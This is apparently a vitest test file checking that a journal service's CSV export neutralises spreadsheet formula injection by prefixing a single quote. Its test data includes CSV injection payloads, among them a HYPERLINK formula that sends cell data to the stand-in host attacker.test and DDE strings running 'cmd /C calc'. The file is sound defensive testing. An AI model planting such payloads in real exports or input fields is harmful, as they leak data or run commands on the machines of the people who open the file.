/**
 * CSV injection (OWASP «CSV Injection»): a title typed by a user or sent by the cabinet that starts
 * with `=`, `+`, `-`, `@`, a tab or a carriage return would run as a formula when the exported
 * journal is opened in a spreadsheet. The export writes such a cell quoted, after a single quote.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { JournalService } from '../../src/main/services/journal-service';
import { openStore, type StoreDatabase } from '../../src/main/store/database';

/** Splits CSV text into rows of cells as RFC 4180 §2 reads it (quoted cells, doubled quotes, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  let index = 0;
  while (index < text.length) {
    const char = text[index] as string;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index += 2;
        continue;
      }
      if (char === '"') quoted = false;
      else cell += char;
      index += 1;
      continue;
    }
    if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index += 1;
    } else cell += char;
    index += 1;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

let database: StoreDatabase | undefined;
let dataDir: string | undefined;

afterEach(() => {
  database?.close();
  if (dataDir !== undefined) rmSync(dataDir, { recursive: true, force: true });
});

describe('journal CSV export', () => {
  const hostile = ['=HYPERLINK("http://attacker.test/?d="&A1,"Отчёт")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

  it('neutralises every cell that a spreadsheet would run as a formula, keeping its text after a single quote', () => {
    dataDir = mkdtempSync(path.join(tmpdir(), 'nedradesk-csv-'));
    database = openStore({ dataDir });
    let actor = '=cmd|\' /C calc\'!A0';
    const journal = new JournalService(database, () => ({ actor, organisationOid: '2000001' }));
    for (const object of hostile) journal.record('package.submit', { object, details: { packageId: 'p-1' } });
    actor = 'Иванова Мария Петровна';
    journal.record('package.submit', { object: 'Отчёт о добыче за III квартал', details: { packageId: 'p-2' } });

    const { csv } = journal.exportCsv({});
    const [header, ...rows] = parseCsv(csv.replace(/^\uFEFF/, ''));
    expect(header).toEqual(['Время', 'Кто', 'Организация', 'Действие', 'Объект', 'Результат', 'Подробности']);
    expect(rows).toHaveLength(hostile.length + 1);
    for (const row of rows) {
      expect(row).toHaveLength(7);
      for (const cell of row) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
    }
    // The hostile titles are all there, whole, after the quote that makes them text (newest first).
    const objects = rows.map((row) => row[4]);
    expect(objects.slice(1).reverse()).toEqual(hostile.map((text) => `'${text}`));
    expect(rows.slice(1).every((row) => row[1] === `'=cmd|' /C calc'!A0`)).toBe(true);
    // Every neutralised cell is written quoted, so the quote cannot be split off by a separator.
    for (const text of hostile) expect(csv).toContain(`"'${text.replace(/"/g, '""')}"`);
  });

  it('leaves ordinary values as they were: times, names, organisation numbers, results and JSON details', () => {
    dataDir = mkdtempSync(path.join(tmpdir(), 'nedradesk-csv-'));
    database = openStore({ dataDir });
    const journal = new JournalService(database, () => ({ actor: 'Иванова Мария Петровна', organisationOid: '2000001' }));
    journal.record('package.submit', { object: 'Отчёт о добыче за III квартал', details: { packageId: 'p-2', documents: 3 } });
    const [, row] = parseCsv(journal.exportCsv({}).csv.replace(/^\uFEFF/, ''));
    expect(row?.[0]).toMatch(/^\d{4}-\d{2}-\d{2}T/);
    expect(row?.slice(1)).toEqual(['Иванова Мария Петровна', '2000001', 'Постановка пакета в очередь отправки', 'Отчёт о добыче за III квартал', 'успешно', '{"packageId":"p-2","documents":3}']);
  });
});
